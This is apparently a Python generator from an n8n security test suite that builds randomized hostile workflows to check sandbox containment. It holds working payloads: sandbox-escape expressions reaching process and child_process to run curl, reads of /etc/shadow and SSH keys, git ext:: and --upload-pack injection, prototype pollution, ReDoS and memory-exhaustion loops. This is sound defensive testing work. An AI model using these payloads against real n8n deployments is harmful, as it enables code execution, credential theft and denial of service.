"""Makes hostile workflows: nodes and expressions that aim at the network, files and programs."""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Mapping
from typing import Any

from evals.rehearsal_hostile.native_code import write_native_code
from evals.rehearsal_hostile.targets import Targets
from tests.support.n8n_workflows import Workflow, make_connection, node, workflow

Attack = Callable[[random.Random, Targets], Workflow]

# Nodes of other protocols than HTTP, with an operation that begins a connection. Their hosts come
# from credentials, and those of rehearsals are invented.
_PROTOCOLS: Mapping[str, tuple[float, Mapping[str, Any]]] = {
    "amqp": (1, {"sink": "queue"}),
    "crateDb": (1, {"operation": "executeQuery", "query": "select 1"}),
    "emailSend": (2.1, {"fromEmail": "a@b.example", "toEmail": "c@d.example", "subject": "x"}),
    "ftp": (1, {"operation": "list", "path": "/"}),
    "kafka": (1, {"topic": "x", "sendInputData": True}),
    "ldap": (1, {"operation": "search", "baseDN": "dc=x", "returnAll": True}),
    "microsoftSql": (1.1, {"operation": "executeQuery", "query": "select 1"}),
    "mongoDb": (1.2, {"operation": "find", "collection": "x", "query": "{}"}),
    "mqtt": (1, {"topic": "x", "sendInputData": True}),
    "mySql": (2.4, {"operation": "executeQuery", "query": "select 1"}),
    "postgres": (2.6, {"operation": "executeQuery", "query": "select 1"}),
    "questDb": (1, {"operation": "executeQuery", "query": "select 1"}),
    "rabbitmq": (1.1, {"queue": "x", "sendInputData": True}),
    "redis": (1, {"operation": "keys", "keyPattern": "*"}),
    "snowflake": (1, {"operation": "executeQuery", "query": "select 1"}),
    "ssh": (1, {"operation": "execute", "command": "id"}),
    "timescaleDb": (1, {"operation": "executeQuery", "query": "select 1"}),
}
_FILES = (
    "/etc/passwd /etc/shadow /proc/self/environ /proc/1/environ /proc/1/root/etc/shadow"
    " ../../../../../../etc/shadow /root/.ssh/id_rsa ~/.n8n/config ~/.n8n/database.sqlite"
    " /dev/zero /sys/class/net"
).split()
# Ways from an expression or a Code node to the objects of the program around it.
_TO_PROGRAM = (
    "this.process",
    "this.constructor.constructor('return process')()",
    "(() => {}).constructor('return process')()",
    "$json.constructor.constructor('return process')()",
    "[].map.constructor('return this.process')()",
    "Object.getPrototypeOf(async function(){}).constructor('return process')()",
    "new Error().constructor.constructor('return process')()",
    "$items.constructor.constructor('return process')()",
    "globalThis.process",
    "extend.constructor('return process')()",
    "Reflect.construct(''.at.constructor, ['return process'])()",
    "`${{}}`.constructor.constructor('return process')()",
)
_POLLUTIONS = (
    "$json.__proto__.polluted = 'x'",
    "Object.prototype.toString = () => { throw 1 }",
    "$json['__pro' + 'to__']['env'] = {NODE_OPTIONS: '--require=/tmp/x'}",
    "Object.defineProperty(Object.prototype, 'shell', {value: '/bin/sh'})",
    "[].__proto__.push = function () { return 0 }",
    "(Object.assign(Object.getPrototypeOf({}), {host: 'x'}), 1)",
)
_ENDLESS = (
    "while (true) {}",
    "const all = []; while (true) all.push(new Array(1e6).fill(Math.random()));",
    "let s = 'x'; while (true) s += s;",
    "return [{json: {ok: /^(a+)+$/.test('a'.repeat(60) + '!')}}];",
    "await new Promise(() => {});",
    "const f = () => f() + f(); f();",
    "for (;;) await Promise.resolve();",
    "return Array.from({length: 3e6}, (_, i) => ({json: {i, t: 'x'.repeat(50)}}));",
    "return [{json: {t: 'x'.repeat(4e8)}}];",
    "const all = []; for (;;) all.push(Buffer.alloc(1e8, 1));",
)


def make_attack(seed: int, targets: Targets) -> tuple[str, Workflow]:
    """Returns the kind and the workflow of a number; equal numbers give equal workflows."""
    chance = random.Random(seed)
    kinds, weights = zip(*((kind, weight) for kind, (weight, _) in ATTACKS.items()), strict=True)
    kind = chance.choices(kinds, weights)[0]
    return kind, ATTACKS[kind][1](chance, targets)


def _start() -> Workflow:
    return node("Start", "manualTrigger", 1)


def _request(chance: random.Random, targets: Targets) -> Workflow:
    """An HTTP Request to any address, sometimes by a proxy of its own."""
    scheme = chance.choice(("http", "https"))
    path = chance.choice(("", "latest/meta-data/iam/", "v2/keys", "rest/login", f"{targets.mark}"))
    options: dict[str, Any] = {"timeout": 3_000, "allowUnauthorizedCerts": True}
    if chance.random() < 0.5:
        options["proxy"] = f"http://{targets.pick_host(chance)}"
    parameters = {
        "method": chance.choice(("GET", "POST", "PUT")),
        "url": f"{scheme}://{targets.pick_host(chance)}/{path}",
        "sendBody": True,
        "bodyParameters": {"parameters": [{"name": "mark", "value": targets.mark}]},
        "options": options,
    }
    return workflow(_start(), node("Call", "httpRequest", 4.2, parameters))


def _read_pages(chance: random.Random, targets: Targets) -> Workflow:
    """An HTTP Request that asks for pages without end."""
    pagination = {
        "paginationMode": "updateAParameterInEachRequest",
        "parameters": {
            "parameters": [{"type": "qs", "name": "page", "value": "={{ $pageCount }}"}]
        },
        "paginationCompleteWhen": "other",
        "completeExpression": "={{ false }}",
        "limitPagesFetched": chance.random() < 0.5,
        "maxRequests": 10_000,
    }
    parameters = {
        "url": f"https://{targets.mark}.example.com/list",
        "options": {"pagination": {"pagination": pagination}},
    }
    return workflow(_start(), node("Call", "httpRequest", 4.2, parameters))


def _speak(chance: random.Random, targets: Targets) -> Workflow:
    """A node of another protocol."""
    del targets
    kind = chance.choice(list(_PROTOCOLS))
    version, parameters = _PROTOCOLS[kind]
    return workflow(_start(), node("Call", kind, version, dict(parameters)))


def _clone(chance: random.Random, targets: Targets) -> Workflow:
    """A Git node, which starts a program, with an address of many kinds."""
    source = chance.choice(
        (
            f"http://{targets.pick_host(chance)}/x.git",
            f"git://{targets.pick_address(chance)}/x.git",
            f"ssh://git@{targets.pick_address(chance)}/x.git",
            f"file://{targets.outside}",
            f"ext::sh -c touch% {targets.outside}/left",
            "--upload-pack=touch /tmp/left",
        )
    )
    parameters = {
        "operation": "clone",
        "repositoryPath": chance.choice((targets.outside, "/tmp/x", "~/x")),  # noqa: S108 - an aim
        "sourceRepository": source,
    }
    return workflow(_start(), node("Clone", "git", 1.1, parameters))


def _use_files(chance: random.Random, targets: Targets) -> Workflow:
    """A node that reads a file of the machine, or writes one."""
    path = chance.choice((*_FILES, targets.secret_file, f"{targets.outside}/../secret"))
    if chance.random() < 0.6:
        return workflow(_start(), node("Read", "readWriteFile", 1.1, {"fileSelector": path}))
    made = {"operation": "toText", "sourceProperty": "x", "binaryPropertyName": "data"}
    write = {"operation": "write", "fileName": f"{targets.outside}/left"}
    return workflow(
        _start(),
        node("Make", "convertToFile", 1.1, made),
        node("Write", "readWriteFile", 1.1, write),
    )


def _run_code(chance: random.Random, targets: Targets) -> Workflow:
    """A Code node that leaves its sandbox, if it can, and connects."""
    host = targets.pick_host(chance)
    program = chance.choice(_TO_PROGRAM).replace("$json", "({})").replace("$items", "(() => 1)")
    text = chance.choice(
        (
            f"return [{{json: {{t: await (await fetch('http://{host}/{targets.mark}')).text()}}}}];",
            f"require('net').connect({targets.port}, '127.0.0.1').write('{targets.mark}');",
            f"const net = await import('node:net'); net.connect({targets.port}, '127.0.0.1');",
            f"return await this.helpers.httpRequest({{url: 'http://{host}/{targets.mark}'}});",
            f"return require('fs').readFileSync('{targets.secret_file}', 'utf8');",
            f"const p = {program}; return [{{json: {{t: p.env, u: {_execute('p', host)}}}}}];",
            f"const p = {program}; p.binding('tcp_wrap'); return [{{json: p.env}}];",
            f"new (require('ws'))('ws://{host}/{targets.mark}');",
            f"new XMLHttpRequest().open('GET', 'http://{host}/{targets.mark}');",
        )
    )
    return workflow(_start(), node("Code", "code", 2, {"jsCode": text}))


def _execute(program: str, address: str) -> str:
    """Returns JavaScript that starts a program by the object ``process``."""
    command = f"curl http://{address}"
    return f"{program}.mainModule.require('child_process').execSync('{command}').toString()"


def _run_python(chance: random.Random, targets: Targets) -> Workflow:
    """A Code node in Python that connects, reads or starts a program."""
    host = targets.pick_host(chance)
    text = chance.choice(
        (
            f"import urllib.request\nreturn urllib.request.urlopen('http://{host}/{targets.mark}')",
            f"import os\nos.system('curl http://{host}/{targets.mark}')",
            f"return [{{'json': {{'t': open('{targets.secret_file}').read()}}}}]",
            "while True: pass",
        )
    )
    language = chance.choice(("python", "pythonNative"))
    return workflow(_start(), node("Code", "code", 2, {"language": language, "pythonCode": text}))


def _express(chance: random.Random, targets: Targets) -> Workflow:
    """An expression that leaves its sandbox, if it can, or changes what all share."""
    program = chance.choice(_TO_PROGRAM)
    text = chance.choice(
        (
            _execute(program, f"{targets.pick_host(chance)}/{targets.mark}"),
            f"JSON.stringify({program}.env)",
            f"{program}.mainModule.require('fs').readFileSync('{targets.secret_file}','utf8')",
            f"{program}.exit(1)",
            chance.choice(_POLLUTIONS),
            "/^(a+)+$/.test('a'.repeat(40) + '!')",
            "$env.GROUNDED_PLANTED",
        )
    )
    return _set_value(text)


def _express_much(chance: random.Random, targets: Targets) -> Workflow:
    """An expression whose value is larger than the memory of n8n."""
    del targets
    text = chance.choice(("'x'.repeat(5e8)", "Array(1e7).fill('x').map(x => x.repeat(1e3))"))
    return _set_value(text)


def _set_value(text: str) -> Workflow:
    """Returns a workflow with an expression."""
    values = {
        "assignments": [{"id": "1", "name": "x", "type": "string", "value": f"={{{{ {text} }}}}"}]
    }
    return workflow(_start(), node("Set", "set", 3.4, {"assignments": values}))


def _never_end(chance: random.Random, targets: Targets) -> Workflow:
    """Code without an end, or with more memory than there is."""
    del targets
    return workflow(_start(), node("Code", "code", 2, {"jsCode": chance.choice(_ENDLESS)}))


def _loop(chance: random.Random, targets: Targets) -> Workflow:
    """Nodes that follow each other in a circle, with and without requests."""
    url = f"https://{targets.mark}.example.com/next"
    step = chance.choice(
        (
            node("Next", "noOp", 1),
            node("Next", "httpRequest", 4.2, {"url": url}),
            node("Next", "code", 2, {"jsCode": "return [...$input.all(), ...$input.all()];"}),
            node("Next", "splitInBatches", 3, {"options": {"reset": True}}),
        )
    )
    output = 1 if step["type"].endswith("splitInBatches") else 0
    edges = {
        **make_connection("Start", "main", "Next"),
        **make_connection("Next", "main", "Next", 0, output),
    }
    return workflow(_start(), step, edges=edges)


def _call_itself(chance: random.Random, targets: Targets) -> Workflow:
    """A workflow that starts itself, by its id, by its webhook, or from a copy of its text."""
    del targets
    if chance.random() < 0.5:
        own = {"workflowId": {"__rl": True, "mode": "id", "value": "={{ $workflow.id }}"}}
        return workflow(_start(), node("Self", "executeWorkflow", 1.2, own))
    url = chance.choice(
        (
            "={{ $execution.resumeUrl.replace(/webhook-waiting.*/, 'webhook/again') }}",
            "={{ $json.webhookUrl }}",
            "http://127.0.0.1:5678/webhook/again",
        )
    )
    hook = {"path": "again", "httpMethod": "GET", "responseMode": "lastNode", "options": {}}
    return workflow(
        node("Hook", "webhook", 2.1, hook, webhookId="again"),
        node("Self", "httpRequest", 4.2, {"url": url, "options": {"timeout": 5_000}}),
    )


def _wait(chance: random.Random, targets: Targets) -> Workflow:
    """A node that waits for a week, for a date, or for a call."""
    del targets
    waiting: Mapping[str, Any] = chance.choice(
        (
            {"resume": "timeInterval", "amount": 1, "unit": "days"},
            {"resume": "timeInterval", "amount": 7 * 24, "unit": "hours"},
            {"resume": "specificTime", "dateTime": "2099-01-01T00:00:00"},
            {"resume": "webhook", "options": {}},
            {"resume": "timeInterval", "amount": 60, "unit": "seconds"},
        )
    )
    return workflow(_start(), node("Wait", "wait", 1.1, dict(waiting)), node("End", "noOp", 1))


def _answer_much(chance: random.Random, targets: Targets) -> Workflow:
    """A webhook that answers with hundreds of megabytes."""
    del targets
    text = chance.choice(
        (
            "return [{json: {t: 'x'.repeat(2e8)}}];",
            "return Array.from({length: 5e5}, (_, i) => ({json: {i, t: 'x'.repeat(300)}}));",
            "return [{json: {}, binary: {data: {data: 'AAAA'.repeat(5e7), mimeType: 'a/b'}}}];",
        )
    )
    hook = {"path": "much", "responseMode": "responseNode", "options": {}}
    answer = {"respondWith": "allIncomingItems", "options": {}}
    return workflow(
        node("Hook", "webhook", 2.1, hook, webhookId="much"),
        node("Make", "code", 2, {"jsCode": text}),
        node("Answer", "respondToWebhook", 1.4, answer),
    )


def _use_own_api(chance: random.Random, targets: Targets) -> Workflow:
    """A node that speaks with the n8n in which it runs, or with another on this machine."""
    if chance.random() < 0.3:
        parameters = {"resource": "workflow", "operation": "getAll", "returnAll": True}
        return workflow(_start(), node("Call", "n8n", 1, parameters))
    path = chance.choice(("rest/login", "rest/settings", "rest/credentials", "api/v1/workflows"))
    base = chance.choice(
        (
            "={{ $execution.resumeUrl.split('/webhook')[0] }}/",
            f"http://127.0.0.1:{targets.port}/",
            "http://localhost:5678/",
        )
    )
    return workflow(_start(), node("Call", "httpRequest", 4.2, {"url": f"{base}{path}"}))


def _start_program(chance: random.Random, targets: Targets) -> Workflow:
    """The node that runs commands of the system."""
    command = (
        f"curl http://{targets.pick_host(chance)}/{targets.mark}; touch {targets.outside}/left"
    )
    return workflow(_start(), node("Run", "executeCommand", 1, {"command": command}))


def _obey_nothing(chance: random.Random, targets: Targets) -> Workflow:
    """A community node that uses every module of Node, in n8n's own process."""
    code = write_native_code(chance, targets)
    return workflow(_start(), node("Hostile", "n8n-nodes-hostile.hostile", 1, {"code": code}))


# The weights keep what runs into a limit of time rare.
ATTACKS: Mapping[str, tuple[int, Attack]] = {
    "HTTP request": (16, _request),
    "pages without end": (1, _read_pages),
    "other protocol": (14, _speak),
    "Git": (5, _clone),
    "files": (8, _use_files),
    "JavaScript": (12, _run_code),
    "Python": (4, _run_python),
    "expression": (11, _express),
    "large expression": (1, _express_much),
    "no end": (1, _never_end),
    "circle": (1, _loop),
    "itself": (2, _call_itself),
    "wait": (2, _wait),
    "much": (1, _answer_much),
    "n8n's own API": (4, _use_own_api),
    "command": (2, _start_program),
    "hostile package": (15, _obey_nothing),
}


def as_text(content: Any) -> str:
    """Returns any result as text in which a secret can be searched."""
    return json.dumps(content, default=str)
